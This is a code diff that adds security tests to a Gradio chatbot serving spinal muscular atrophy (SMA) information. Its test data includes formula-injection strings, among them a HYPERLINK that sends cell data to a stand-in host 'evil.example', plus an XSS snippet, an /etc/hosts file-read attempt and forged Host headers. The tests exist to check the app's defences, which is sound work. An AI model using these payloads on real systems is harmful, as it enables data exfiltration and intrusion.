@@ -315,3 +315,176 @@ def test_a_changed_kind_of_source_is_said_by_the_rebuild(scratch_built, embedder
         'emcell-sma-stem-cell-treatment: kind of source changed from "clinic\'s own page" '
         "to 'news article'" in said
     ), said
+
+
+# --- 4. uploads only for staff ----------------------------------------------------------
+
+
+def _multipart(name: str, data: bytes) -> tuple[bytes, str]:
+    boundary = "smabot-test-boundary"
+    body = (
+        (
+            f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n'
+            f"Content-Type: text/plain\r\n\r\n"
+        ).encode()
+        + data
+        + f"\r\n--{boundary}--\r\n".encode()
+    )
+    return body, f"multipart/form-data; boundary={boundary}"
+
+
+def _upload(srv, name: str, data: bytes, password: str | None, source: str = "127.0.0.1"):
+    body, kind = _multipart(name, data)
+    headers = {"Content-Type": kind}
+    if password is not None:
+        headers["X-Staff-Password"] = password
+    return request(srv, "/gradio_api/upload", body, headers, source=source)
+
+
+def _call(srv, api: str, data: list, source: str = "127.0.0.1") -> str:
+    """A Gradio call to its end: the text of its event stream."""
+    status, _, body = request(
+        srv, f"/gradio_api/call/{api}", json.dumps({"data": data}).encode(), source=source
+    )
+    assert status == 200, body
+    event = json.loads(body)["event_id"]
+    return request(srv, f"/gradio_api/call/{api}/{event}", source=source)[2].decode()
+
+
+def test_uploads_need_the_staff_password(server):
+    for password in (None, "", "guess"):
+        status, _, body = _upload(server, "a.txt", SMA_TEXT, password, source="127.0.0.4")
+        assert status == 403 and b"staff password" in body, (password, body)
+    status, _, body = _upload(server, "a.txt", SMA_TEXT, app_server.PASSWORD)
+    assert status == 200 and json.loads(body)[0].endswith("a.txt")
+
+
+def test_an_upload_over_the_limit_is_refused(server):
+    status, _, body = _upload(server, "big.txt", b"x" * (11 * 2**20), app_server.PASSWORD)
+    assert status == 413, body[:200]
+
+
+def test_gradio_serves_no_file_back(server):
+    status, _, body = _upload(
+        server, "mine.html", b"<script>alert(1)</script>", app_server.PASSWORD
+    )
+    path = json.loads(body)[0]
+    for url in (
+        f"/gradio_api/file={path}",
+        f"/gradio_api/file/{path}",
+        "/gradio_api/file=/etc/hosts",
+    ):
+        status, _, served = request(server, url)
+        assert status == 404 and b"alert" not in served and b"localhost" not in served, url
+
+
+def test_an_added_documents_upload_is_deleted(server):
+    from pathlib import Path
+
+    text = SMA_TEXT + b"Physiotherapy keeps joints supple in children with SMA.\n"
+    _, _, body = _upload(server, "physio-leaflet.txt", text, app_server.PASSWORD)
+    path = json.loads(body)[0]
+    assert Path(path).exists()
+    file = {"path": path, "meta": {"_type": "gradio.FileData"}}
+    said = _call(
+        server,
+        "staff_add_document",
+        [app_server.PASSWORD, file, "Physio leaflet", "SMA UK", "patient_organisation", ""],
+    )
+    assert "Added" in said and "physio-leaflet" in said, said
+    assert not Path(path).exists()
+    assert (server.config.corpus_dir / "physio-leaflet.txt").read_bytes() == text
+
+
+# --- 5. CSV export ----------------------------------------------------------------------
+
+
+def test_the_csv_export_neutralises_formulas_and_leaves_no_file(server):
+    import base64
+    import csv
+    import io
+    import re
+    import tempfile
+    from pathlib import Path
+
+    marker = "csv-marker-4410"
+    comments = [
+        f'=HYPERLINK("http://evil.example/?"&A1,"{marker}")',
+        f"+1+1 {marker}",
+        f"-2+3 {marker}",
+        f"@SUM(1) {marker}",
+        f"\t=1+1 {marker}",
+        f"\r=1+1 {marker}",
+    ]
+    for comment in comments:
+        vote = {"vote": "down", "question": "What is SMA type 2?", "history": []}
+        status, _, body = request(server, "/chat/feedback", json.dumps(vote).encode())
+        assert status == 200, body
+        row = json.loads(body)
+        note = {"id": row["id"], "token": row["token"], "comment": comment}
+        assert request(server, "/chat/comment", json.dumps(note).encode())[0] == 200
+    said = _call(server, "staff_feedback_csv", [""])
+    assert "password" in said and marker not in said  # behind the password
+    said = _call(server, "staff_feedback_csv", [app_server.PASSWORD])
+    link = json.loads(said.split("data: ", 1)[1].splitlines()[0])[0]
+    text = base64.b64decode(re.search(r"base64,([^\"]+)", link).group(1)).decode()
+    rows = list(csv.DictReader(io.StringIO(text)))
+    got = {r["comment"] for r in rows if marker in (r["comment"] or "")}
+    assert got == {"'" + c.lstrip() for c in comments}, got  # comments are stored stripped
+    from bot.app.feedback import spreadsheet_safe
+
+    assert [spreadsheet_safe(c) for c in ("\t=1", "\r=1", "SMA", 7)] == ["'\t=1", "'\r=1", "SMA", 7]
+    places = [Path(tempfile.gettempdir()), server.config.corpus_dir.parent]
+    left = [
+        p
+        for place in places
+        for p in place.rglob("*.csv")
+        if p.is_file() and marker.encode() in p.read_bytes()
+    ]
+    assert left == []
+
+
+# --- 6. headers, hosts, monitoring, password guessing ----------------------------------
+
+
+@pytest.mark.parametrize("path", ["/", "/staff", "/config", "/api", "/gradio_api/info"])
+def test_every_reply_refuses_framing_and_sniffing(server, path):
+    status, headers, _ = request(server, path)
+    assert status == 200
+    assert headers["x-content-type-options"] == "nosniff"
+    assert headers["x-frame-options"] == "DENY"
+    assert "frame-ancestors 'none'" in headers["content-security-policy"]
+
+
+@pytest.mark.parametrize("path", ["/config", "/logout", "/gradio_api/info", "/"])
+def test_a_forged_host_is_not_echoed(server, path):
+    status, headers, body = request(server, path, headers={"Host": "evil.example"})
+    assert status == 400
+    assert b"evil.example" not in body and "evil" not in headers.get("location", "")
+    status, headers, body = request(server, path, headers={"X-Forwarded-Host": "evil.example"})
+    assert b"evil.example" not in body and "evil" not in headers.get("location", "")
+
+
+def test_monitoring_is_off(server):
+    for path in ("/monitoring", "/monitoring/summary", "/gradio_api/monitoring/summary"):
+        status, _, body = request(server, path)
+        assert status in (403, 404) and b"avg_event" not in body, (path, body)
+
+
+def test_password_guesses_are_slowed_per_client(server):
+    from bot.app.state import FREE_ATTEMPTS
+
+    guesser = "127.0.0.5"
+    said = [
+        _call(server, "staff_open", [f"guess-{i}"], source=guesser)
+        for i in range(FREE_ATTEMPTS + 3)
+    ]
+    assert all("Wrong or missing staff password" in s for s in said[:FREE_ATTEMPTS])
+    assert "Too many wrong passwords" in said[-1]
+    # even the right password must wait now, from there; another client is not held up
+    assert "Too many wrong passwords" in _call(
+        server, "staff_open", [app_server.PASSWORD], source=guesser
+    )
+    assert "error" not in _call(server, "staff_open", [app_server.PASSWORD], source="127.0.0.6")
+    status, _, _ = _upload(server, "a.txt", SMA_TEXT, app_server.PASSWORD, source=guesser)
+    assert status == 403
